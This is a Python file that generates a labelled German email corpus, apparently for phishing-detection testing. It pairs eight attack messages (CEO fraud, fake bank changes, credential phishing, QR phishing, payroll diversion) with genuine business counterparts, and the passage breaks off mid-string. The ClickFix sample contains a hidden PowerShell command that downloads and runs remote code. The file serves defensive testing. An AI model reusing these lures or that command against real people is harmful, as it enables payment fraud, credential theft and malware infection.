"""German messages (attack 01-08, business 01-08)."""
import base64

import infra as I
from core import latin, M, txt, html, alt, mixed, related, att, ohtml, ghtml, plain, simple_html
from people import s, c
import banks as B
from banks import F
import files

# ---------------------------------------------------------------- shared snippets
SIG_LANG = ("Petra Lang\nForderungsmanagement / Disposition\n\nLieferant GmbH\nKamera · Licht · Bühne\n"
            "Industriestraße 42 · 50354 Hürth\nTel. +49 2233 7184-0 · www.lieferant-gmbh.de\n"
            "Amtsgericht Köln HRB 61822 · Geschäftsführer: Werner Lindemann")
SIG_MAIER = ("Stefan Maier\nKey Account Film & TV\n\nLieferant GmbH\nKamera · Licht · Bühne\n"
             "Industriestraße 42 · 50354 Hürth\nTel. +49 2233 7184-22 · Mobil +49 171 4402817\n"
             "www.lieferant-gmbh.de")
SIG_FLORIAN = ("Florian Bäumer\nEinkauf Equipment, Studio & Logistik\n\nExample Group GmbH\n"
               "Am Coloneum 9 · 50829 Köln\nTel. +49 221 5574-318\nwww.example.com")

LF_DISCLAIMER = ("Lieferant GmbH · Sitz Hürth · Amtsgericht Köln HRB 61822 · USt-IdNr. DE812457391\n"
                 "Geschäftsführer: Werner Lindemann")

# ================================================================= ATTACKS
A = []

# 01 CEO fraud from look-alike domain ------------------------------------------------
t01 = """Guten Tag Herr Brückner,

ich benötige heute noch Ihre Unterstützung in einer vertraulichen Angelegenheit.

Wir stehen unmittelbar vor der Unterzeichnung der Übernahme der Verwertungsrechte an einer skandinavischen Krimiserie (intern „Projekt Nordlicht“). Die Gegenseite verlangt als Zeichen der Verbindlichkeit eine Anzahlung in Höhe von 184.500,00 EUR auf das Treuhandkonto der begleitenden Kanzlei, bevor morgen früh die Signing-Unterlagen freigegeben werden.

Bis zur offiziellen Mitteilung an Belegschaft und Gesellschafter am 16.11. darf darüber intern nicht gesprochen werden – auch nicht mit Frau Weiß, die ich morgen selbst informiere. Das ist eine ausdrückliche Auflage aus dem NDA.

Rechtsanwalt Dr. Henrik Lindqvist wird Sie in den nächsten Minuten per E-Mail mit den Kontodaten kontaktieren. Bitte veranlassen Sie die Überweisung als Eilüberweisung noch heute und senden Sie mir die Ausführungsbestätigung als PDF.

Ich sitze den ganzen Nachmittag in Verhandlungen und bin telefonisch nicht erreichbar. Bitte antworten Sie ausschließlich auf diese E-Mail.

Vielen Dank für Ihre Diskretion.

Matthias Köhler
Geschäftsführer
Example Group GmbH"""
A.append(M(
    id="01-de-ceo-fraud-lookalike-domain", folder="attack", lang="de", when="2026-11-05 16:42:10",
    route=I.postfix_host("mail.examplegroup-eu.com", "vps-4d2a91bc.vps.ovh.net", "51.75.142.87",
                         "examplegroup-eu.com", mailer="outlook", src_ip="185.220.101.47"),
    frm=("Matthias Köhler", "matthias.koehler@examplegroup-eu.com"), to=[s("ap")],
    subject="Vertraulich: Projekt Nordlicht – Zahlung heute",
    hcs="windows-1252", henc="Q", importance="high",
    body=alt(txt(t01, "windows-1252", "quoted-printable"),
             html(ohtml(t01, "windows-1252"), "windows-1252", "quoted-printable")),
    what="CEO fraud: 'Matthias Köhler' asks AP to wire EUR 184,500 to a law firm escrow for a secret rights acquisition; contact only by mail.",
    why="Look-alike domain examplegroup-eu.com (real: examplegroup.eu/example.com) on an OVH VPS; secrecy (not even the CFO), urgency, out-of-process payment, 'lawyer' will send account data; the real CEO writes internally via Exchange and uses 'du' (see business 01)."))

# 02 supplier bank-detail change from look-alike domain ----------------------------
t02 = """Sehr geehrter Herr Brückner,

im Zuge der Umstellung unseres Zahlungsverkehrs auf eine neue Hausbank ändert sich
mit sofortiger Wirkung unsere Bankverbindung. Das bisherige Konto bei der Sparkasse
KölnBonn wird zum Monatsende aufgelöst; Zahlungen dorthin können ab sofort nicht
mehr zugeordnet werden und gehen zurück.

Bitte hinterlegen Sie für alle offenen und künftigen Rechnungen ausschließlich
folgende Verbindung:

Kontoinhaber: Lieferant GmbH
IBAN: %s
BIC: REVOLT21
Bank: Revolut Bank UAB

Betroffen sind insbesondere unsere Rechnungen RE-2026-10418 (Kamerapaket ARRI
Alexa 35, Serie „Nachtschicht“) und RE-2026-10477 (Lichtpaket Studio 3) über
zusammen 38.761,40 EUR, die in dieser Woche fällig werden.

Das Bestätigungsschreiben unserer Geschäftsführung finden Sie im Anhang. Bitte
bestätigen Sie uns die Änderung kurz per E-Mail, damit wir den Zahlungseingang
korrekt zuordnen können.

Mit freundlichen Grüßen

Petra Lang
Forderungsmanagement / Disposition

Lieferant GmbH
Kamera · Licht · Bühne
Industriestraße 42 · 50354 Hürth
Tel. +49 2233 7184-0 · www.lieferant-gmbh.de
""" % F(B.LF_FAKE)
pdf02 = files.pdf_doc([
    ("b", "Lieferant GmbH · Kamera · Licht · Bühne"), ("s", "Industriestraße 42 · 50354 Hürth"),
    ("gap", 20), ("l", "Example Group GmbH"), ("l", "Kreditorenbuchhaltung"), ("l", "Am Coloneum 9"),
    ("l", "50829 Köln"), ("gap", 20), ("l", "Hürth, 09.11.2026"), ("gap",),
    ("h", "Änderung unserer Bankverbindung"),
    "Sehr geehrte Damen und Herren,",
    "hiermit teilen wir Ihnen mit, dass sich unsere Bankverbindung mit sofortiger Wirkung ändert. "
    "Bitte leisten Sie alle Zahlungen ab sofort ausschließlich auf das folgende Konto:",
    ("l", "Kontoinhaber: Lieferant GmbH"), ("l", "IBAN: " + F(B.LF_FAKE)), ("l", "BIC: REVOLT21"),
    ("l", "Kreditinstitut: Revolut Bank UAB"), ("gap",),
    "Zahlungen auf die bisherige Bankverbindung können nicht mehr berücksichtigt werden.",
    "Mit freundlichen Grüßen", ("gap", 20), ("l", "Werner Lindemann"), ("l", "Geschäftsführer"),
    ("gap", 30), ("s", "Lieferant GmbH · Amtsgericht Köln HRB 61822 · USt-IdNr. DE812457391"),
], title="Bankverbindung", author="Buchhaltung", producer="Microsoft® Word 2016",
    creator="Microsoft® Word 2016", created="20261109083112+01'00'")
A.append(M(
    id="02-de-supplier-bank-change-lookalike", folder="attack", lang="de", when="2026-11-09 10:17:45",
    route=I.postfix_host("mail.lieferant-gmhb.de", "static.93.17.198.88.clients.your-server.de",
                         "88.198.17.93", "lieferant-gmhb.de", mailer="thunderbird",
                         user_agent="Mozilla Thunderbird"),
    frm=("Petra Lang", "p.lang@lieferant-gmhb.de"), to=[s("ap")],
    subject="Änderung unserer Bankverbindung – Lieferant GmbH", hmode="words", henc="Q", hlabel="UTF-8",
    extra=[("Content-Language", "de-DE")],
    body=mixed(txt(t02, "utf-8", "8bit", label="UTF-8", flowed=True),
               att("Lieferant_GmbH_Bankverbindung_2026.pdf", "application/pdf", pdf02,
                   kind="text-only PDF letter with the new IBAN")),
    what="Supplier bank-detail change: 'Petra Lang' of Lieferant GmbH announces a new account at a Lithuanian EMI for two invoices due this week.",
    why="Domain lieferant-gmhb.de (letters swapped; real lieferant-gmbh.de) on a Hetzner VPS; a German GmbH suddenly banking at Revolut LT; old account 'closed immediately'; confirmation requested by e-mail instead of call-back; contrast the genuine, properly announced change in business 02."))

# 03 thread hijack from the genuinely compromised Lieferant mailbox ----------------
q03 = """Hallo Herr Maier,

danke für die schnelle Abholung am Freitag. Bei der Rückgabe Block 2 haben Ihre
Kollegen ja einen Kratzer am Kompendium der zweiten Alexa notiert. Schicken Sie mir
bitte das Schadensprotokoll, dann kläre ich das intern mit der Produktion.

Viele Grüße
""" + SIG_FLORIAN
link03 = "https://lieferant-gmbh-dokumente.pages.dev/share/?id=RGF2-4471&e=" + base64.b64encode(
    b"florian.baeumer@example.com").decode()
t03 = """Hallo Herr Bäumer,

anbei wie besprochen das Schadensprotokoll inkl. Fotos und die Nachberechnung zur Rückgabe Block 2.
Wegen der Dateigröße liegt es in unserem Dokumentenportal:

[Schadensprotokoll_Nachtschicht_Block2.pdf (14,2 MB)](%s)

Bitte kurz bis morgen Mittag prüfen und freigeben, sonst geht es automatisch in die Abrechnung.
Zum Öffnen melden Sie sich mit Ihrer Firmen-E-Mail an.

Gruß
%s""" % (link03, SIG_MAIER)
qhdr03 = ["Von: Florian Bäumer <florian.baeumer@example.com>",
          "Gesendet: Montag, 16. November 2026 09:12",
          "An: Stefan Maier <s.maier@lieferant-gmbh.de>",
          'Betreff: Rückgabe Equipment "Nachtschicht" Block 2 / Schadensprotokoll']
p03 = plain(t03) + "\n\n" + "\n".join(qhdr03) + "\n\n" + q03
A.append(M(
    id="03-de-thread-hijack-compromised-supplier", folder="attack", lang="de", when="2026-11-17 07:58:31",
    route=I.exo("lieferant-gmbh.de", pod=0), frm=c("lf_maier"), to=[s("proc")],
    subject='AW: Rückgabe Equipment "Nachtschicht" Block 2 / Schadensprotokoll',
    hcs="iso-8859-1", henc="Q",
    irt="0a7f3c91d2b84e6fb1c5d8e2a4906b17@EXCH02.corp.example.com",
    body=alt(txt(latin(p03), "iso-8859-1", "quoted-printable"),
             html(ohtml(latin(t03), "iso-8859-1", quote=(qhdr03, latin(q03))),
                  "iso-8859-1", "quoted-printable")),
    what="Reply in a real thread from the supplier's real mailbox: 'damage report' behind a link to a document portal that asks for the company login.",
    why="Sent from Lieferant GmbH's genuine Exchange Online tenant (account compromised), quoting Florian's real mail; the 'portal' is on pages.dev (Cloudflare Pages) and the URL carries the recipient's address base64-encoded (credential harvesting); deadline pressure; the supplier normally attaches PDFs (business 03/04)."))

# 04 ELSTER phishing via SendGrid ---------------------------------------------------
link04 = ("https://u4829173.ct.sendgrid.net/ls/click?upn=u001.Xq7vK2mPZb8dW1nR4cT0yJ6hLs9eFo3GaUiB5xN-2Fk"
          "Qw8ErTy6UiOp1AsDf3GhJk0LzXcVbNm7-2FqWeRt5YuIo9PaSdFg2HjKl4ZxCv8BnM1Qw3E")
t04 = """Sehr geehrte Nutzerin, sehr geehrter Nutzer,

in Ihrem ELSTER-Postfach liegt eine neue Nachricht für das Benutzerkonto

   Example Group GmbH
   Steuernummer 214/5723/0841

zur Abholung bereit:

   Bescheid über die Festsetzung der Umsatzsteuer-Vorauszahlung für 09/2026
   mit Festsetzung eines Verspätungszuschlags

Die Frist für einen Einspruch bzw. die Zahlung endet am 19.11.2026. Bitte rufen Sie die Nachricht zeitnah ab.

[Nachricht im ELSTER-Postfach abrufen](%s)

Für den Abruf melden Sie sich wie gewohnt mit Ihrer Zertifikatsdatei und Ihrem Passwort an. Aus Sicherheitsgründen steht die Nachricht nur 7 Tage zum Abruf bereit.

Mit freundlichen Grüßen
Ihr ELSTER-Team

Diese E-Mail wurde automatisch erstellt. Bitte antworten Sie nicht auf diese Nachricht.""" % link04
h04 = """<!DOCTYPE html><html lang="de"><head><meta charset="utf-8"><title>ELSTER</title></head>
<body style="margin:0;background:#f2f2f2;font-family:Arial,Helvetica,sans-serif;color:#222">
<table width="100%%" cellpadding="0" cellspacing="0"><tr><td align="center">
<table width="600" cellpadding="0" cellspacing="0" style="background:#ffffff;margin:20px 0">
<tr><td style="background:#1b3b6f;color:#fff;padding:18px 24px;font-size:20px;font-weight:bold">ELSTER <span style="font-weight:normal;font-size:14px">Ihr Online-Finanzamt</span></td></tr>
<tr><td style="padding:24px;font-size:14px;line-height:1.5">
<p>Sehr geehrte Nutzerin, sehr geehrter Nutzer,</p>
<p>in Ihrem ELSTER-Postfach liegt eine neue Nachricht für das Benutzerkonto<br>
<b>Example Group GmbH</b><br>Steuernummer 214/5723/0841<br>zur Abholung bereit:</p>
<p style="background:#eef3fa;padding:12px;border-left:4px solid #1b3b6f">Bescheid über die Festsetzung der Umsatzsteuer-Vorauszahlung für 09/2026<br>mit Festsetzung eines Verspätungszuschlags</p>
<p>Die Frist für einen Einspruch bzw. die Zahlung endet am <b>19.11.2026</b>. Bitte rufen Sie die Nachricht zeitnah ab.</p>
<p style="text-align:center;margin:28px 0"><a href="%s" style="background:#1b3b6f;color:#fff;padding:12px 26px;text-decoration:none;border-radius:3px">Nachricht im ELSTER-Postfach abrufen</a></p>
<p>Für den Abruf melden Sie sich wie gewohnt mit Ihrer Zertifikatsdatei und Ihrem Passwort an. Aus Sicherheitsgründen steht die Nachricht nur 7 Tage zum Abruf bereit.</p>
<p>Mit freundlichen Grüßen<br>Ihr ELSTER-Team</p>
</td></tr>
<tr><td style="padding:12px 24px;font-size:11px;color:#777;border-top:1px solid #ddd">Diese E-Mail wurde automatisch erstellt. Bitte antworten Sie nicht auf diese Nachricht.</td></tr>
</table></td></tr></table>
<img src="https://u4829173.ct.sendgrid.net/wf/open?upn=u001.3kT9fPq2Lm8Zx" alt="" width="1" height="1" border="0" style="height:1px!important;width:1px!important">
</body></html>
""" % link04
A.append(M(
    id="04-de-elster-tax-office-phish", folder="attack", lang="de", when="2026-11-12 06:31:02",
    route=I.sendgrid("em4821.elster-postfach.de"),
    frm=("ELSTER – Ihr Online-Finanzamt", "benachrichtigung@elster-postfach.de"), to=[s("cfo")],
    subject="Neue Nachricht in Ihrem ELSTER-Postfach – Bescheid Umsatzsteuer 09/2026",
    body=alt(txt(plain(t04, "esp"), "utf-8", "quoted-printable"), html(h04, "utf-8", "quoted-printable")),
    what="Fake ELSTER notification: 'new tax assessment with late-filing surcharge', button to 'retrieve' it with certificate file and password.",
    why="elster-postfach.de is not elster.de; sent via SendGrid with click tracking hiding the target; asks for the ELSTER certificate file + PIN (credential/certificate theft); deadline pressure; the company's VAT returns go through the tax advisor (business 08)."))

# 05 quishing: MFA re-registration QR via Amazon SES -------------------------------
url05 = "https://mfa-registrierung.eu/s/Kx82pQ?e=birgit.lehmann@example.com&t=8f2c1a9e"
t05 = """Hallo Birgit Lehmann,

im Rahmen der Umstellung auf die neue Microsoft-365-Sicherheitsrichtlinie müssen alle Konten der Example Group die Multi-Faktor-Authentifizierung bis zum 20.11.2026 neu registrieren. Konten ohne Neuregistrierung werden danach bis zur Klärung durch den IT-Service gesperrt.

So gehen Sie vor:
1. Öffnen Sie die Kamera-App Ihres Smartphones.
2. Scannen Sie den unten stehenden QR-Code.
3. Melden Sie sich mit Ihrem Firmenkonto an und bestätigen Sie die Anfrage in der Authenticator-App.

Der Vorgang dauert weniger als zwei Minuten. Bitte verwenden Sie Ihr Smartphone, die Registrierung ist am PC nicht möglich.

Vielen Dank für Ihre Mitarbeit
IT-Service Example Group
Referenz: SEC-MFA-2026-11-7731"""
h05 = """<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>
<body style="font-family:Segoe UI,Arial,sans-serif;font-size:14px;color:#1f1f1f">
<table width="560" cellpadding="0" cellspacing="0" style="border:1px solid #e1e1e1">
<tr><td style="background:#0067b8;color:#fff;padding:14px 20px;font-size:17px">Microsoft 365 &middot; Sicherheitsinformationen</td></tr>
<tr><td style="padding:20px">
<p>Hallo Birgit Lehmann,</p>
<p>im Rahmen der Umstellung auf die neue Microsoft-365-Sicherheitsrichtlinie müssen alle Konten der Example Group die Multi-Faktor-Authentifizierung bis zum <b>20.11.2026</b> neu registrieren. Konten ohne Neuregistrierung werden danach bis zur Klärung durch den IT-Service gesperrt.</p>
<p><b>So gehen Sie vor:</b><br>1. Öffnen Sie die Kamera-App Ihres Smartphones.<br>2. Scannen Sie den unten stehenden QR-Code.<br>3. Melden Sie sich mit Ihrem Firmenkonto an und bestätigen Sie die Anfrage in der Authenticator-App.</p>
<p style="text-align:center"><img src="cid:qr_mfa_7731@examplegroup" width="230" height="230" alt="QR-Code"></p>
<p>Der Vorgang dauert weniger als zwei Minuten. Bitte verwenden Sie Ihr Smartphone, die Registrierung ist am PC nicht möglich.</p>
<p>Vielen Dank für Ihre Mitarbeit<br>IT-Service Example Group<br><span style="color:#777;font-size:11px">Referenz: SEC-MFA-2026-11-7731</span></p>
</td></tr></table></body></html>
"""
A.append(M(
    id="05-de-quishing-mfa-reregistration", folder="attack", lang="de", when="2026-11-18 08:05:44",
    route=I.ses("eu-central-1", mail_from_domain="bounce.examplegroup-sicherheit.de"),
    frm=("IT-Service Example Group", "it-service@examplegroup-sicherheit.de"), to=[s("office")],
    subject="Aktion erforderlich: MFA-Neuregistrierung bis 20.11.2026",
    body=alt(txt(t05, "utf-8", "base64"),
             related(html(h05, "utf-8", "base64"),
                     att("qr.png", "image/png", files.qr_png(url05), inline=True, cid="qr_mfa_7731@examplegroup",
                         qr_url=url05))),
    what="Quishing: 'IT-Service' asks to re-register Microsoft MFA by scanning a QR code with the phone before accounts are locked.",
    why="External look-alike sender domain via Amazon SES; QR code (invisible to URL scanners) leads to mfa-registrierung.eu with the victim's address (AiTM credential/MFA phishing); forces use of an unmanaged phone; threat of lockout; the real IT explicitly never sends QR codes by mail (business 06)."))

# 06 fake register / directory offer ------------------------------------------------
t06 = """Sehr geehrte Damen und Herren,

im Rahmen der jährlichen Aktualisierung des Deutschen Gewerbe- und Unternehmensregisters (DGUR) bitten wir Sie, die für Ihr Unternehmen hinterlegten Eintragungsdaten zu prüfen:

Firma: Example Group GmbH
Registergericht: Amtsgericht Köln, HRB 81234
Anschrift: Am Coloneum 9, 50829 Köln
Branche: Film- und Fernsehproduktion (WZ 59.11)
Aktenzeichen: DGR-2026-318842

Das beigefügte Formular enthält Ihre Eintragungsdaten sowie die Angaben zur Veröffentlichung. Bitte senden Sie es unterschrieben bis zum 27.11.2026 zurück oder überweisen Sie den ausgewiesenen Betrag unter Angabe des Aktenzeichens; die Zahlung gilt als Bestätigung der Daten.

Mit freundlichen Grüßen
Abteilung Datenabgleich
DGUR – Deutsches Gewerbe- und Unternehmensregister
"""
pdf06 = files.pdf_doc([
    ("b", "DGUR · Deutsches Gewerbe- und Unternehmensregister"), ("s", "Abteilung Datenabgleich · Postfach 10 04 17 · 10564 Berlin"),
    ("gap", 16), ("h", "Eintragungsofferte / Datenabgleich"), ("l", "Aktenzeichen: DGR-2026-318842"),
    ("l", "Datum: 10.11.2026"), ("gap",),
    ("b", "Ihre Eintragungsdaten"), ("l", "Firma: Example Group GmbH"), ("l", "Registergericht: Amtsgericht Köln, HRB 81234"),
    ("l", "Anschrift: Am Coloneum 9, 50829 Köln"), ("l", "Branche: Film- und Fernsehproduktion (WZ 59.11)"),
    ("gap",), ("b", "Zahlungsangaben"), ("l", "Betrag: 1.188,00 EUR zzgl. USt."),
    ("l", "Empfänger: DGUR Datenservice s.r.o."), ("l", "IBAN: " + F(B.SK_REG)), ("l", "BIC: TATRSKBX"),
    ("l", "Verwendungszweck: DGR-2026-318842"), ("gap", 20),
    ("s", "Mit Unterschrift oder Zahlung wird die Veröffentlichung im Onlineverzeichnis www.dgur-register.de beauftragt."),
    ("s", "Der Betrag versteht sich als Jahresentgelt; die Laufzeit beträgt drei Jahre und verlängert sich um ein weiteres"),
    ("s", "Jahr, sofern nicht drei Monate vor Ablauf schriftlich gekündigt wird. Das DGUR ist ein privatwirtschaftliches"),
    ("s", "Verzeichnis und steht in keiner Verbindung zum Handelsregister oder zu Behörden. Gerichtsstand ist Bratislava."),
], title="Eintragungsofferte", producer="TCPDF 6.6.5", creator="DGUR", created="20261110072012+01'00'")
A.append(M(
    id="06-de-fake-register-offer", folder="attack", lang="de", when="2026-11-10 09:03:27",
    route=I.postfix_host("mail.dgur-register.de", "vmi2314587.contaboserver.net", "161.97.148.203",
                         "dgur-register.de", mailer="phpmailer"),
    frm=("DGUR Datenabgleich", "datenabgleich@dgur-register.de"), to=[s("ap")],
    subject="Datenabgleich Example Group GmbH – Az. DGR-2026-318842",
    hcs="iso-8859-1", henc="Q",
    body=mixed(txt(latin(t06), "iso-8859-1", "8bit"),
               att("DGR-2026-318842_Eintragungsofferte.pdf", "application/pdf", pdf06,
                   kind="text-only PDF 'offer' styled as an invoice")),
    what="Fake register invoice: 'DGUR' asks to confirm register data and pay EUR 1,188 p.a. (3-year term) to a Slovak account.",
    why="Private directory posing as an official register (HRB number, 'Aktenzeichen'); payment 'counts as confirmation'; auto-renewing 3-year contract in small print; payee in Slovakia; PHPMailer on a Contabo VPS; the genuine invoices come from known suppliers (business 03)."))

# 07 ClickFix HTML attachment from a compromised small business --------------------
h07 = """<!DOCTYPE html>
<html lang="de"><head><meta charset="utf-8"><title>Angebot_Kulissenbau_A-2026-1107.pdf</title>
<style>
body{font-family:Segoe UI,Arial,sans-serif;background:#f4f4f4;margin:0}
.box{width:520px;margin:60px auto;background:#fff;border:1px solid #d9d9d9;padding:28px}
.cf{display:flex;align-items:center;border:1px solid #d0d0d0;padding:14px;margin:18px 0}
.chk{width:24px;height:24px;border:2px solid #777;margin-right:12px}
code{display:block;background:#1e1e1e;color:#dcdcdc;padding:10px;font-size:12px;word-break:break-all}
ol li{margin:6px 0}
</style></head>
<body><div class="box">
<h2>Dokument geschützt</h2>
<p>Das Dokument <b>Angebot_Kulissenbau_A-2026-1107.pdf</b> (2,4 MB) wurde über eine sichere Verbindung freigegeben. Bitte bestätigen Sie, dass Sie ein Mensch sind.</p>
<div class="cf"><div class="chk"></div>Ich bin kein Roboter<span style="margin-left:auto;font-size:11px;color:#777">Cloudflare Turnstile</span></div>
<p><b>Verifizierung fehlgeschlagen.</b> Ihr Browser unterstützt die automatische Prüfung nicht. Führen Sie die manuelle Prüfung aus:</p>
<ol>
<li>Drücken Sie die <b>Windows-Taste + R</b></li>
<li>Fügen Sie den Prüfcode unten ein (<b>Strg + V</b>)</li>
<li>Drücken Sie <b>Enter</b> und laden Sie diese Seite neu</li>
</ol>
<code>powershell -w hidden -nop -c "iex (irm 'https://turnstile-verify-cdn.top/cf/v2?id=A-2026-1107')"  # Cloudflare Verification ID: 6620-4471</code>
<p style="font-size:11px;color:#888">Ray ID: 8e2f7c41ab93d2f1 &middot; Leistung &amp; Sicherheit von Cloudflare</p>
</div></body></html>
"""
t07 = """Guten Tag Herr Engel,

wie am Telefon mit Ihrer Produktionsleitung besprochen, erhalten Sie anbei unser Angebot für den Kulissenbau Studio 2 (Wohnküche, Treppenhaus, Flur inkl. Wandelemente und Türen) nach Aufmaß vom 12.11.

Das Angebot ist aus Datenschutzgründen geschützt, bitte öffnen Sie die Datei im Browser.

Den Aufbau können wir ab KW 49 mit zwei Kolonnen einplanen. Für Rückfragen erreichen Sie mich unter 02271 48 93 0.

Mit freundlichen Grüßen

Markus Brandt
Tischlerei & Messebau Brandt GmbH
Zeppelinstraße 14
50126 Bergheim"""
A.append(M(
    id="07-de-clickfix-html-attachment", folder="attack", lang="de", when="2026-11-19 11:24:09",
    route=I.cpanel("vh447.webhosting-server.de", "185.117.22.47", tz="Europe/Berlin", mailer="roundcube"),
    frm=("Markus Brandt", "m.brandt@tischlerei-brandt-bergheim.de"), to=[s("prod")],
    subject="Angebot Kulissenbau Studio 2 – A-2026-1107",
    body=mixed(txt(t07, "utf-8", "quoted-printable", label="UTF-8", flowed=True),
               att("Angebot_Kulissenbau_A-2026-1107.html", "text/html", h07.encode("utf-8"),
                   kind="inert HTML: fake Cloudflare check telling the user to paste a PowerShell command (ClickFix), no script")),
    what="ClickFix: a carpenter's 'quote for set construction' as HTML that fakes a Cloudflare check and tells the reader to run a PowerShell command via Win+R.",
    why="Sent from a compromised small-business mailbox on cPanel shared hosting; attached 'PDF' is an HTML page; instructs the user to paste `powershell ... iex(irm https://turnstile-verify-cdn.top/...)` into the Run dialog (ClickFix malware download)."))

# 08 payroll diversion ---------------------------------------------------------------
t08 = """Hallo Anja,

ich habe mein Gehaltskonto gewechselt. Kannst du bitte für die November-Abrechnung die neue Verbindung hinterlegen?

Kontoinhaber: Tobias Engel
IBAN: %s
Bank: N26

Ich bin diese Woche am Set in Bottrop und komme unterwegs nicht ins Mitarbeiterportal, deshalb schreibe ich von privat. Gib mir bitte kurz Bescheid, ob das noch für den Lauf am 25. klappt, dann kann ich das alte Konto schließen.

Danke dir und viele Grüße
Tobias""" % F(B.N26_MULE)
A.append(M(
    id="08-de-payroll-diversion-private-mail", folder="attack", lang="de", when="2026-11-16 19:47:13",
    route=I.gmx("web.de", client="webmail", home_ip="146.70.117.35"),
    frm=("Tobias Engel", "tobias.engel.privat@web.de"), to=[s("hr")],
    subject="Neue Bankverbindung fürs Gehalt",
    body=txt(t08, "utf-8", "quoted-printable", label="UTF-8"),
    what="Payroll diversion: 'Tobias Engel' from a private web.de address asks HR to pay his November salary into a new N26 account.",
    why="Address not on file (Tobias's real private address is tobias.engel@gmx.de, business 05); bypasses the employee self-service portal; new neobank account; pressure to make the payroll run; sent in the evening from a VPN exit IP."))

ATTACKS = A

# ================================================================= BUSINESS
Bz = []

# 01 genuine CEO urgent payment request via internal relay -------------------------
b01 = """Hallo Jörg,

die Kollegen in Rom brauchen für den Drehstart „Via Appia“ am Montag die Anzahlung an Studio Luce Roma, sonst geben sie das Lichtpaket nicht frei.

Die Rechnung (PF-2026-0911, 24.400,00 EUR = 50 % Anzahlung lt. Rahmenvertrag) liegt seit heute Mittag in DocuWare im Freigabeworkflow; Bankverbindung ist die bekannte aus dem Kreditorenstamm, da hat sich nichts geändert.

Meine Freigabe im Workflow ist erteilt, Sabine gibt als Zweite frei (sie ist in Kopie). Bitte nimm die Zahlung mit in den Eil-Lauf heute um 15 Uhr. Falls was klemmt, ruf mich kurz auf dem Handy an.

Danke dir!
Matthias

--
Matthias Köhler
Geschäftsführer
Example Group GmbH · Am Coloneum 9 · 50829 Köln
Tel. +49 221 5574-100"""
Bz.append(M(
    id="01-de-ceo-urgent-payment-internal", folder="business", lang="de", when="2026-11-13 12:41:55",
    route=I.exchange_internal(user_ip="10.21.4.12"), frm=s("ceo"), to=[s("ap")], cc=[s("cfo")],
    subject="Dringend: Anzahlung Studio Luce Roma – bitte heute noch raus", hcs="iso-8859-15", henc="Q",
    importance="high",
    body=alt(txt(latin(b01), "iso-8859-15", "quoted-printable"),
             html(ohtml(latin(b01), "iso-8859-15"), "iso-8859-15", "quoted-printable")),
    what="The CEO asks AP to include an urgent down-payment to a known Italian supplier in today's payment run.",
    why="Internal mail from the CEO's mailbox via EXCH02 -> mail-int01; refers to the approval workflow (DocuWare), four-eyes principle with the CFO in copy, existing vendor master data, phone contact offered.",
    hard_neg_of=(["01-de-ceo-fraud-lookalike-domain", "21-it-ceo-fraud-fake-lawyer"], "urgent CEO payment request")))

# 02 genuine bank-detail change --------------------------------------------------------
b02 = """Sehr geehrter Herr Brückner,
sehr geehrte Damen und Herren,

wie bereits mit unserem Schreiben vom 12.11.2026 per Post angekündigt, wechseln wir zum 01.01.2027 unsere Hausbank. Ab diesem Datum bitten wir um Zahlung auf folgende Bankverbindung:

Commerzbank AG, Köln
IBAN: %s
BIC: COBADEFFXXX

Unser bisheriges Konto bei der Sparkasse KölnBonn (IBAN %s) bleibt bis zum 31.03.2027 parallel bestehen; dort eingehende Zahlungen werden selbstverständlich weiterhin zugeordnet. Für Rechnungen mit Datum bis 31.12.2026 ändert sich nichts.

Bitte verifizieren Sie die Änderung wie mit Ihnen vereinbart telefonisch über die Ihnen bekannte Rufnummer unserer Zentrale (nicht über Kontaktangaben aus dieser E-Mail). Frau Lang und Herr Maier bestätigen Ihnen die Daten gerne. Das unterschriebene Schreiben finden Sie zusätzlich im Anhang.

Mit freundlichen Grüßen

i. A. Sandra Weber
Buchhaltung

%s""" % (F(B.LF_NEW), F(B.LF_OLD), LF_DISCLAIMER)
pdf_b02 = files.pdf_doc([
    ("b", "Lieferant GmbH · Kamera · Licht · Bühne"), ("s", "Industriestraße 42 · 50354 Hürth · Tel. +49 2233 7184-0"),
    ("gap", 20), ("l", "Example Group GmbH"), ("l", "Kreditorenbuchhaltung"), ("l", "Am Coloneum 9"), ("l", "50829 Köln"),
    ("gap", 20), ("l", "Hürth, 12.11.2026"), ("gap",), ("h", "Neue Bankverbindung ab 01.01.2027"),
    "Sehr geehrte Damen und Herren,",
    "zum 01.01.2027 wechseln wir unsere Hausbank. Bitte leisten Sie Zahlungen für Rechnungen ab diesem Datum auf:",
    ("l", "Commerzbank AG, Köln"), ("l", "IBAN: " + F(B.LF_NEW)), ("l", "BIC: COBADEFFXXX"), ("gap",),
    "Das bisherige Konto bei der Sparkasse KölnBonn (IBAN " + F(B.LF_OLD) + ") bleibt bis 31.03.2027 bestehen. "
    "Bitte bestätigen Sie die Änderung telefonisch über unsere Ihnen bekannte Zentralnummer.",
    "Mit freundlichen Grüßen", ("gap", 20), ("l", "Werner Lindemann                         Sandra Weber"),
    ("l", "Geschäftsführer                                Buchhaltung"), ("gap", 30),
    ("s", "Lieferant GmbH · Sitz Hürth · Amtsgericht Köln HRB 61822 · USt-IdNr. DE812457391"),
], title="Neue Bankverbindung 2027", author="Sandra Weber", producer="Microsoft® Word für Microsoft 365",
    creator="Microsoft® Word für Microsoft 365", created="20261112101544+01'00'")
Bz.append(M(
    id="02-de-supplier-bank-change-genuine", folder="business", lang="de", when="2026-11-12 14:22:08",
    route=I.exo("lieferant-gmbh.de", pod=0), frm=("Lieferant GmbH – Buchhaltung", "rechnungen@lieferant-gmbh.de"),
    to=[s("ap")], subject="Lieferant GmbH: neue Bankverbindung ab 01.01.2027 (Schreiben vom 12.11.2026)",
    hcs="windows-1252", henc="Q",
    body=mixed(alt(txt(b02, "windows-1252", "quoted-printable"), html(ohtml(b02, "windows-1252"), "windows-1252", "quoted-printable")),
               att("Lieferant_GmbH_Bankverbindung_ab_2027.pdf", "application/pdf", pdf_b02, kind="signed letter, text-only PDF")),
    what="Supplier announces a new German house bank from 1 Jan 2027, previously announced by post, old account kept until March.",
    why="Sent from the supplier's real domain and tenant; domestic bank in the company's own name; long overlap period; explicitly asks for call-back verification via the known number.",
    hard_neg_of=(["02-de-supplier-bank-change-lookalike"], "supplier bank-detail change")))

# 03 genuine invoice with XRechnung ----------------------------------------------------
xml03 = ("""<?xml version="1.0" encoding="UTF-8"?>
